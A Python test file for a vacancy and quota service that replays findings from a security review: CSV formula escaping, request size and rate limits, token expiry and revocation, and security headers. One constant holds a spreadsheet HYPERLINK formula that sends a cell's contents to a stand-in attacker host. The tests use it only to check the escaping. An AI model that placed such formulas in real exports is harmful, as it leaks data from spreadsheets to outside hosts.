"""Security findings 2, 5, 8, 9 and 10 of the attack review, replayed: CSV formula injection,
body limits, per-token rate and concurrency limits, one 500 that breaks nothing else, headers,
/health for strangers, token expiry and last use, the last admin token, ASCII ids, outcome
dates, per-employer pseudonyms."""

from __future__ import annotations

import asyncio
import csv
import http.client
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from catalogs.i18n import day_in_case
from service.api import limits
from service.api.app import create_app
from service.config import Settings
from service.reports import quota as reports
from service.reports import render
from service.runtime import Runtime
from service.store import db, tokens
from service.store.imports import import_records
from service.store.tables import ApiToken
from tests.dbutil import scratch_engine
from tests.factories import bin_number, vacancy
from tests.serving import served as served_app

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _auth(secret: str, lang: str = "en") -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}", "Accept-Language": lang}


@pytest.fixture
def client(runtime: Runtime) -> TestClient:
    return TestClient(create_app(runtime))


# -- CSV formula injection (finding 5) ----------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_starts_a_formula_gets_a_quote(start: str) -> None:
    assert render.safe_cell(start + "1+1") == "'" + start + "1+1"


def test_numbers_stay_numbers_and_plain_text_stays() -> None:
    assert render.safe_cell(-3) == -3
    assert render.safe_cell(-0.5) == -0.5
    assert render.safe_cell("ТОО «Каспий»") == "ТОО «Каспий»"
    # a vacancy title as it would reach any CSV the service writes
    assert render.safe_cell(EVIL) == "'" + EVIL


@pytest.fixture
def evil_world(session: Session, runtime: Runtime) -> str:
    employer = bin_number(201)
    rows = [
        vacancy(
            1,
            employer_bin=employer,
            employer_name=EVIL,
            title=EVIL,
            kato="471010000",
            is_quota="true",
            quota_slots="2",
            quota_from="2026-03-01",
        )
    ]
    report = import_records(session, "vacancies", rows, protector=runtime.protector)
    assert report.ok, [e.as_dict("en") for e in report.errors]
    return employer


def _cells(text: str) -> list[str]:
    """Every cell of a CSV in either dialect (Excel's: a byte order mark, then ``;``)."""
    excel = text.startswith("\ufeff")
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";" if excel else ",")
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("dialect", render.DIALECTS)
def test_quota_csv_neutralises_an_employer_name(
    session: Session, evil_world: str, dialect: render.Dialect
) -> None:
    ledger = reports.quota_ledger(session, kato=None, today=date(2026, 6, 30))
    cells = _cells(render.to_csv(ledger, "en", dialect))
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_quota_csv_through_the_api_and_the_command_line(
    client: TestClient,
    session: Session,
    evil_world: str,
    run,  # type: ignore[no-untyped-def]
) -> None:
    secret = tokens.create(session, role="employer", employer_bin=evil_world)[0]
    answer = client.get("/api/v1/reports/quota?format=csv&as_of=2026-06-30", headers=_auth(secret))
    assert answer.status_code == 200
    assert "'" + EVIL in _cells(answer.text)
    assert EVIL not in _cells(answer.text)
    for more in ([], ["--dialect", "rfc4180"]):
        printed = run("report", "quota", "--csv", "--as-of", "2026-06-30", *more)
        assert printed.exit_code == 0, printed.output
        assert "'" + EVIL in _cells(printed.stdout)
        assert EVIL not in _cells(printed.stdout)


# -- tokens: expiry, last use, the last admin (finding 10) ----------------------------------


def test_a_token_expires_after_90_days_by_default(session: Session) -> None:
    _, record = tokens.create(session, role="officer")
    assert record.expires_at is not None
    life = tokens._aware(record.expires_at) - datetime.now(UTC)
    assert timedelta(days=89) < life <= timedelta(days=90)
    _, short = tokens.create(session, role="officer", days=3)
    assert short.expires_at is not None
    assert tokens._aware(short.expires_at) - datetime.now(UTC) <= timedelta(days=3)


def test_an_expired_token_is_401_with_its_own_message(client: TestClient, session: Session) -> None:
    secret, record = tokens.create(session, role="officer")
    record.expires_at = datetime.now(UTC) - timedelta(minutes=1)
    session.add(record)
    session.commit()
    for lang in ("ru", "kk", "en"):
        answer = client.get("/api/v1/persons/P00001", headers=_auth(secret, lang))
        assert answer.status_code == 401
        assert answer.json()["error"]["code"] == "token_expired"
        shown = day_in_case(record.expires_at.date(), "loc", lang)  # 27.01.2027, kk in its case
        assert shown in answer.json()["error"]["message"]


def test_last_use_is_recorded_at_most_once_a_minute(client: TestClient, session: Session) -> None:
    secret, record = tokens.create(session, role="officer")
    assert record.last_used_at is None
    client.get("/api/v1/persons/P00001", headers=_auth(secret))
    session.refresh(record)
    first = record.last_used_at
    assert first is not None
    client.get("/api/v1/persons/P00001", headers=_auth(secret))
    session.refresh(record)
    assert record.last_used_at == first
    # a minute later, the next request writes it again
    assert record.id is not None
    assert tokens.touch(session, record, tokens._aware(first) + timedelta(seconds=61))
    session.refresh(record)
    assert tokens._aware(record.last_used_at) > tokens._aware(first)  # type: ignore[arg-type]


def test_the_last_live_admin_token_cannot_be_revoked(client: TestClient, session: Session) -> None:
    for existing in session.exec(select(ApiToken).where(ApiToken.role == "admin")).all():
        existing.revoked_at = datetime.now(UTC)
        session.add(existing)
    session.commit()
    secret, record = tokens.create(session, role="admin")
    answer = client.delete(f"/api/v1/tokens/{record.id}", headers=_auth(secret))
    assert answer.status_code == 409
    assert answer.json()["error"]["code"] == "last_admin"
    _, other = tokens.create(session, role="admin")
    assert client.delete(f"/api/v1/tokens/{record.id}", headers=_auth(secret)).status_code == 200
    # the one left is the last again
    assert other.id is not None
    with pytest.raises(tokens.TokenError):
        tokens.revoke(session, other.id)


def test_token_create_days_on_the_command_line(run, session: Session) -> None:  # type: ignore[no-untyped-def]
    made = run("token", "create", "--role", "officer", "--days", "7")
    assert made.exit_code == 0, made.output
    secret = made.stdout.strip().splitlines()[-1]
    record = tokens.find(session, secret)
    assert record is not None
    assert record.expires_at is not None
    life = tokens._aware(record.expires_at) - datetime.now(UTC)
    assert timedelta(days=6) < life <= timedelta(days=7)


# -- pseudonyms per employer, 64 bits (finding 10) --------------------------------------------


def test_each_employer_sees_its_own_64_bit_code(runtime: Runtime) -> None:
    protector = runtime.protector
    first = protector.pseudonym("P00001", employer_bin=bin_number(1))
    assert first == protector.pseudonym("P00001", employer_bin=bin_number(1))
    assert first != protector.pseudonym("P00001", employer_bin=bin_number(2))
    assert first != protector.pseudonym("P00002", employer_bin=bin_number(1))
    assert first.startswith("C-")
    assert len(first) == 2 + 16
    int(first[2:], 16)
    codes = {
        protector.pseudonym(f"P{n:05d}", employer_bin=bin_number(e))
        for n in range(300)
        for e in range(1, 4)
    }
    assert len(codes) == 900


# -- ids and dates (finding 10) --------------------------------------------------------------


def test_ids_are_ascii_only_in_files_and_in_the_api(
    client: TestClient, session: Session, runtime: Runtime
) -> None:
    from catalogs.fields import FieldError, identifier

    assert identifier("P00001") == "P00001"
    assert identifier("kz:V-1/2_a.b") == "kz:V-1/2_a.b"
    for look_alike in ("Р00001", "P0000١", "Ｐ00001"):  # Cyrillic Р, Arabic digit, full width
        with pytest.raises(FieldError):
            identifier(look_alike)
    report = import_records(
        session, "vacancies", [vacancy(1, vacancy_id="В00001")], protector=runtime.protector
    )
    assert not report.ok
    assert report.errors[0].as_dict("en")["code"] == "bad_identifier"
    admin = tokens.create(session, role="officer")[0]
    event = {"person_id": "Р00001", "item_kind": "vacancy", "item_id": "V00001",
             "event": "referred", "date": "2026-01-05"}  # fmt: skip
    answer = client.post("/api/v1/outcomes", json=event, headers=_auth(admin))
    assert answer.status_code == 422
    assert answer.json()["error"]["details"][0]["column"].endswith("person_id")


def test_outcome_dates_before_2000_are_refused() -> None:
    from catalogs.outcomes.schema import schema

    check = schema(today=date(2026, 6, 30))
    row = {"person_id": "P00001", "item_kind": "vacancy", "item_id": "V00001",
           "event": "referred"}  # fmt: skip
    _, problems = check.parse({**row, "date": "1999-12-31"})
    assert [p.code for p in problems] == ["date_before_2000"]
    assert check.parse({**row, "date": "2000-01-01"})[1] == []


# -- /health and headers (finding 10) -------------------------------------------------------


def test_health_tells_strangers_only_that_it_is_up(client: TestClient, session: Session) -> None:
    assert client.get("/api/v1/health").json() == {"status": "ok"}
    bad = client.get("/api/v1/health", headers={"Authorization": "Bearer nope"})
    assert bad.json() == {"status": "ok"}
    secret = tokens.create(session, role="employer", employer_bin=bin_number(5))[0]
    known = client.get("/api/v1/health", headers=_auth(secret)).json()
    assert known["status"] == "ok"
    assert known["database"]
    assert known["version"]


def test_security_headers(client: TestClient, session: Session) -> None:
    secret = tokens.create(session, role="officer")[0]
    for url in ("/api/v1/persons/P00001", "/api/v1/tokens", "/api/v1/nowhere"):
        answer = client.get(url, headers=_auth(secret))
        assert answer.headers["x-content-type-options"] == "nosniff", url
        assert answer.headers["cache-control"] == "no-store", url
    health = client.get("/api/v1/health")
    assert health.headers["x-content-type-options"] == "nosniff"
    assert "no-store" not in health.headers.get("cache-control", "")
    page = client.get("/docs")
    assert page.status_code == 200
    assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
    assert page.headers["x-content-type-options"] == "nosniff"
    # the page's own script and style files are allowed by its policy: same origin
    assert "default-src 'self'" in page.headers["content-security-policy"]
    for asset in ("swagger-ui-bundle.js", "swagger-ui.css"):
        assert f"/docs-assets/{asset}" in page.text
        assert client.get(f"/docs-assets/{asset}").status_code == 200
    schema = client.get("/api/v1/openapi.json")
    assert schema.status_code == 200
    assert "content-security-policy" not in schema.headers


# -- body limits (finding 8) -----------------------------------------------------------------


@pytest.fixture
def tight(tmp_path: Path, connection: sa.Connection) -> Runtime:
    """A runtime with small limits: 4 KB for JSON, 16 KB for imports, 3 requests a minute."""
    settings = Settings(
        home=tmp_path, secret_key="t" * 32, lang="en", body_limit=4096,
        import_body_limit=16384, token_rate_per_minute=3,
    )  # fmt: skip
    return Runtime(settings, connection, _ready=True)


def _event(n: int) -> dict[str, object]:
    return {"person_id": f"P{n:05d}", "item_kind": "vacancy", "item_id": "V00001",
            "event": "referred", "date": "2026-01-05"}  # fmt: skip


def test_a_body_over_the_limit_is_413_before_it_is_read(session: Session, runtime: Runtime) -> None:
    client = TestClient(create_app(runtime))
    secret = tokens.create(session, role="officer")[0]
    big = json.dumps([_event(n % 99999) for n in range(12000)]).encode()
    assert len(big) > 1024 * 1024
    for lang, word in (("en", "bytes"), ("ru", "байт"), ("kk", "байт")):
        answer = client.post(
            "/api/v1/outcomes",
            content=big,
            headers={**_auth(secret, lang), "Content-Type": "application/json"},
        )
        assert answer.status_code == 413
        assert answer.json()["error"]["code"] == "body_too_large"
        assert "1048576" in answer.json()["error"]["message"]
        assert word in answer.json()["error"]["message"]


def test_a_chunked_body_is_counted_as_it_comes(session: Session, tight: Runtime) -> None:
    client = TestClient(create_app(tight))
    secret = tokens.create(session, role="admin")[0]

    def chunks(total: int) -> Iterator[bytes]:
        yield b"["
        for n in range(total):
            yield (b"," if n else b"") + json.dumps(_event(n)).encode()
        yield b"]"

    headers = {**_auth(secret), "Content-Type": "application/json"}
    answer = client.post("/api/v1/outcomes", content=chunks(200), headers=headers)
    assert answer.status_code == 413, answer.text
    assert answer.json()["error"]["code"] == "body_too_large"
    assert "4096" in answer.json()["error"]["message"]
    # a small one passes the limit (and is then judged on its content)
    small = client.post("/api/v1/outcomes", content=chunks(1), headers=headers)
    assert small.status_code != 413


def test_imports_take_a_larger_body(session: Session, tight: Runtime) -> None:
    client = TestClient(create_app(tight))
    secret = tokens.create(session, role="admin")[0]
    rows = "\n".join(["person_id,item_kind,item_id,event,date"] + [
        f"P{n:05d},vacancy,V00001,referred,2026-01-05" for n in range(200)
    ]).encode()  # fmt: skip
    assert 4096 < len(rows) < 16384
    headers = {**_auth(secret), "Content-Type": "text/csv"}
    fits = client.post("/api/v1/imports/outcomes?check=true", content=rows, headers=headers)
    assert fits.status_code != 413
    over = client.post("/api/v1/imports/outcomes?check=true", content=rows * 3, headers=headers)
    assert over.status_code == 413
    assert "16384" in over.json()["error"]["message"]


# -- per-token rate and concurrency (finding 2) ------------------------------------------------


def test_a_token_over_its_rate_gets_429_and_others_do_not(session: Session, tight: Runtime) -> None:
    client = TestClient(create_app(tight))
    flooder = tokens.create(session, role="officer")[0]
    other = tokens.create(session, role="officer")[0]
    codes = [client.get("/api/v1/tokens", headers=_auth(flooder)).status_code for _ in range(3)]
    assert 429 not in codes
    for lang in ("ru", "kk", "en"):
        refused = client.get("/api/v1/persons/P00001", headers=_auth(flooder, lang))
        assert refused.status_code == 429
        assert refused.json()["error"]["code"] == "rate_limited"
        assert 1 <= int(refused.headers["retry-after"]) <= 60
        assert refused.headers["retry-after"] in refused.json()["error"]["message"]
    assert client.get("/api/v1/persons/P00001", headers=_auth(other)).status_code != 429


def test_a_token_with_too_many_requests_at_once_gets_429() -> None:
    gate = asyncio.Event()

    async def slow(scope: dict, receive: object, send: object) -> None:  # type: ignore[type-arg]
        await gate.wait()
        await send({"type": "http.response.start", "status": 200, "headers": []})  # type: ignore[operator]
        await send({"type": "http.response.body", "body": b"{}"})  # type: ignore[operator]

    app = limits.TokenLimits(slow, limits.Limits(concurrency=2, per_minute=1000))

    async def scenario() -> list[int]:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            first = [asyncio.create_task(client.get("/x", headers=_auth("mt_a"))) for _ in range(2)]
            await asyncio.sleep(0.05)
            third = await client.get("/x", headers=_auth("mt_a"))
            assert third.status_code == 429
            assert third.headers["retry-after"] == "1"
            assert third.json()["error"]["code"] == "too_many_at_once"
            other = asyncio.create_task(client.get("/x", headers=_auth("mt_b")))
            await asyncio.sleep(0.05)
            gate.set()
            done = [r.status_code for r in await asyncio.gather(*first, other)]
            after = await client.get("/x", headers=_auth("mt_a"))
            return [*done, after.status_code]

    assert asyncio.run(scenario()) == [200, 200, 200, 200]


# -- a 500 is one failure (finding 9) ------------------------------------------------------------


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[int, str]]:
    """A real uvicorn server on a database of its own, and an admin token."""
    with scratch_engine(tmp_path) as engine:
        db.upgrade(engine)
        rt = Runtime(Settings(home=tmp_path, secret_key="s" * 32, lang="en"), engine, _ready=True)
        with rt.writing() as session:
            secret = tokens.create(session, role="admin")[0]
        with served_app(rt, log_level="critical") as port:
            yield port, secret


def test_a_500_leaves_the_keep_alive_connection_usable(
    served: tuple[int, str], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from service.usecases import admin

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr(admin, "list_tokens", broken)
    port, secret = served
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    headers = {"Authorization": f"Bearer {secret}", "Accept-Language": "en"}
    connection.request("GET", "/api/v1/tokens", headers=headers)
    failed = connection.getresponse()
    body = json.loads(failed.read())
    assert failed.status == 500
    assert body["error"]["code"] == "internal"
    assert failed.getheader("connection", "").lower() != "close"
    socket_before = connection.sock
    connection.request("GET", "/api/v1/health", headers=headers)
    fine = connection.getresponse()
    assert fine.status == 200
    assert json.loads(fine.read())["status"] == "ok"
    assert connection.sock is socket_before  # the same connection, not a new one
    connection.close()
    assert any("a bug" in (r.exc_text or "") for r in caplog.records if r.exc_info or r.exc_text)


def test_an_api_path_with_another_method_stays_405(client: TestClient) -> None:
    """The pages' catch-all route must not turn the API's 405 into a 404."""
    answer = client.get("/api/v1/allocations")
    assert answer.status_code == 405
    assert answer.headers["allow"] == "POST"
    assert answer.json()["error"]["code"] == "method_not_allowed"
    assert client.get("/api/v1/nowhere").status_code == 404


def test_one_line_texts_refuse_control_characters(client: TestClient, session: Session) -> None:
    secret, _ = tokens.create(session, role="admin")
    bad = {"role": "officer", "label": "отдел\fкадров\x98"}
    answer = client.post("/api/v1/tokens", json=bad, headers=_auth(secret))
    assert answer.status_code == 422
    good = {"role": "officer", "label": "ТОО «KazСтрой», отдел кадров"}
    assert client.post("/api/v1/tokens", json=good, headers=_auth(secret)).status_code == 201


def test_the_moving_minute_counts_the_last_60_seconds_of_each_key() -> None:
    now = [0.0]
    window = limits.MovingMinute(3, clock=lambda: now[0])
    for at in (0.0, 10.0, 20.0):
        now[0] = at
        assert window.hit("a") is None
    now[0] = 30.0
    assert window.hit("a") == pytest.approx(30.0)  # the hit at 0 s leaves the minute at 60 s
    assert window.hit("b") is None  # another key has a minute of its own
    now[0] = 60.0
    assert window.hit("a") is None  # the hit at 0 s is out; the refused one never counted
    assert window.hit("a") == pytest.approx(10.0)
    now[0] = 200.0
    assert window.hit("c") is None
    assert set(window.hits) == {"c"}  # keys idle for a minute are forgotten
